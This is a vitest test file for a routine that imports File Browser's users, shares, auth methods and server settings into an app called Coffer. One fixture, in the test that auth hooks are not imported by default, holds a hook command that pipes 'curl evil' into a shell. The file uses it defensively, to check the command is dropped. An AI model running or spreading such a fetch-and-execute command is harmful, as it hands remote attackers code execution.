import { describe, expect, it } from 'vitest';
import { legacyTokenDigest } from '../shares/token.js';
import type { FileBrowserDb } from './filebrowser-db.js';
import { MAX_BCRYPT_COST, planImport } from './filebrowser-plan.js';

const HASH = '$2a$10$d2qQcbui6z5LWk/29ZqnHuAvULNf0JBjUlY3I2QNLXLEg.ry6t0vC';
const NOW = 1_700_000_000;
const PERM = { admin: true, execute: true, create: true, rename: true, modify: true, delete: true, share: true, download: true };
const admin = { id: 1, username: 'admin', password: HASH, scope: '.', perm: PERM };

function db(over: Partial<FileBrowserDb> = {}): FileBrowserDb {
  return {
    settings: { authMethod: 'json', signup: true, minimumPasswordLength: 8 },
    server: {},
    auther: {},
    version: 2,
    users: [{ key: '1', value: admin }],
    links: [],
    ...over,
  };
}

const KEEP = { keepAuthMethod: true };

describe('planImport: auth methods and their options', () => {
  it('json with reCAPTCHA keeps host, key and secret', () => {
    const p = planImport(db({ auther: { recaptcha: { host: 'https://recaptcha.example', key: 'k', secret: 's' } } }), NOW);
    expect(p.auther).toMatchObject({ method: 'json', recaptcha: { host: 'https://recaptcha.example', key: 'k', secret: 's' } });
  });
  it('proxy keeps its header, hook its command, noauth stays noauth; the logout page comes along', () => {
    expect(planImport(db({ settings: { authMethod: 'proxy', logoutPage: '/bye' }, auther: { header: 'X-Remote-User' } }), NOW, KEEP).auther).toMatchObject({
      method: 'proxy',
      header: 'X-Remote-User',
      logoutPage: '/bye',
    });
    expect(planImport(db({ settings: { authMethod: 'hook' }, auther: { command: '/usr/local/bin/check' } }), NOW, KEEP).auther).toMatchObject({ method: 'hook', command: '/usr/local/bin/check' });
    expect(planImport(db({ settings: { authMethod: 'noauth' } }), NOW, KEEP).auther.method).toBe('noauth');
  });
  it('falls back to passwords (json) when proxy has no header or the method is unknown, and says so', () => {
    const p = planImport(db({ settings: { authMethod: 'proxy' }, auther: {} }), NOW, KEEP);
    expect(p.auther.method).toBe('json');
    expect(p.differences).toContain('auth method proxy has no header; sign-in with a password (json) is used');
    expect(planImport(db({ settings: { authMethod: 'ldap' } }), NOW).differences[0]).toMatch(/auth method "ldap" is unknown/);
  });
});

describe('planImport: a file does not switch off passwords by itself', () => {
  it('keeps json for noauth, proxy and hook without --keep-auth-method, and says so loudly', () => {
    const cases = [
      { settings: { authMethod: 'noauth' } },
      { settings: { authMethod: 'proxy' }, auther: { header: 'X-Remote-User' } },
      { settings: { authMethod: 'hook' }, auther: { command: 'sh -c "curl evil | sh"' } },
    ];
    for (const c of cases) {
      const p = planImport(db(c), NOW);
      expect(p.auther).toMatchObject({ method: 'json', header: '', command: '' });
      expect(p.differences.join('\n')).toMatch(new RegExp(`WARNING: auth method ${c.settings.authMethod}.* is NOT imported.*--keep-auth-method`));
    }
  });
});

describe('planImport: server settings and differences', () => {
  it('maps File Browser server settings to Coffer config keys (enable* become disable-*)', () => {
    const p = planImport(
      db({
        server: { root: '/srv', baseURL: '/fb', port: '8081', socket: '', tlsCert: '/c.pem', tlsKey: '/k.pem', enableThumbnails: false, resizePreview: true, enableExec: false, typeDetectionByHeader: false, imageResolutionCalculation: true, tokenExpirationTime: '6h' },
      }),
      NOW,
    );
    expect(p.server).toEqual({
      root: '/srv',
      baseurl: '/fb',
      port: 8081,
      cert: '/c.pem',
      key: '/k.pem',
      'disable-thumbnails': true,
      'disable-preview-resize': false,
      'disable-exec': true,
      'disable-type-detection-by-header': true,
      'disable-image-resolution-calc': false,
      'token-expiration-time': '6h',
    });
    expect(p.differences).toEqual([]);
  });
  it('names what it cannot honour: external symlinks, authHook, odd modes, global hideDotfiles, a bad port', () => {
    const p = planImport(
      db({
        server: { followExternalSymlinks: true, authHook: '/bin/hook', port: 'http' },
        settings: { authMethod: 'json', fileMode: 0o644, dirMode: 0o755, hideDotfiles: true, key: 'c2VjcmV0' },
      }),
      NOW,
    );
    expect(p.differences.join('\n')).toMatch(/followExternalSymlinks/);
    expect(p.differences.join('\n')).toMatch(/authHook/);
    expect(p.differences.join('\n')).toMatch(/file mode 644/);
    expect(p.differences.join('\n')).toMatch(/folder mode 755/);
    expect(p.differences.join('\n')).toMatch(/hide dotfiles/);
    expect(p.differences.join('\n')).toMatch(/signing key/);
    expect(p.differences.join('\n')).toMatch(/port "http"/);
    expect(p.server.port).toBeUndefined();
  });
  it('keeps Coffer\'s settings when File Browser\'s are ill-typed or break a rule', () => {
    expect(planImport(db({ settings: { signup: 'yes' } }), NOW)).toMatchObject({ settings: null, skipped: ['settings: invalid field /signup: must be boolean; Coffer keeps its own'] });
    expect(planImport(db({ settings: { userHomeBasePath: '../../home' } }), NOW).settings).toBeNull();
  });
});

describe('planImport: users and shares', () => {
  it('bounds the bcrypt cost, and takes a share permission without download away with a note', () => {
    const costly = HASH.replace('$10$', `$${MAX_BCRYPT_COST + 1}$`);
    const p = planImport(
      db({
        users: [
          { key: '1', value: admin },
          { key: '2', value: { ...admin, id: 2, username: 'costly', password: costly } },
          { key: '3', value: { ...admin, id: 3, username: 'sharer', perm: { ...PERM, admin: false, download: false } } },
          { key: '4', value: { ...admin, id: 4, username: 'ADMIN' } },
          { key: '5', value: undefined, error: 'not JSON' },
        ],
      }),
      NOW,
    );
    expect(p.users.map((u) => u.user.username)).toEqual(['admin', 'sharer']);
    expect(p.skipped).toEqual([
      `user 2 "costly": the bcrypt cost ${MAX_BCRYPT_COST + 1} is outside 4–${MAX_BCRYPT_COST}`,
      'user 4 "ADMIN": the name is taken by another user of the file',
      'user 5: not JSON',
    ]);
    expect(p.users[1]!.user.perm).toMatchObject({ share: false, download: false });
    expect(p.differences[0]).toMatch(/user "sharer": the share permission needs the download permission/);
  });
  it('keeps a folder share\'s trailing slash, the token only with a password (as its digest), and leaves out expired links', () => {
    const p = planImport(
      db({
        links: [
          { key: '"a"', value: { hash: 'a', path: '/docs/', userID: 1, expire: 0, token: 'tok-without-password' } },
          { key: '"b"', value: { hash: 'b', path: '/x.txt', userID: 1, expire: NOW + 60, password_hash: HASH, token: 'tok' } },
          { key: '"c"', value: { hash: 'c', path: '/old', userID: 1, expire: NOW } },
          { key: '"d"', value: { hash: 'other', path: '/x', userID: 1, expire: 0 } },
        ],
      }),
      NOW,
    );
    expect(p.shares).toEqual([
      { hash: 'a', path: '/docs/', owner: 'admin', expire: 0, passwordHash: '', tokenSha256: '' },
      { hash: 'b', path: '/x.txt', owner: 'admin', expire: NOW + 60, passwordHash: HASH, tokenSha256: legacyTokenDigest('tok') },
    ]);
    expect(p.skipped).toEqual([`share "c": expired on ${new Date(NOW * 1000).toISOString()}`, 'share "d": the hash differs from its key']);
  });
});
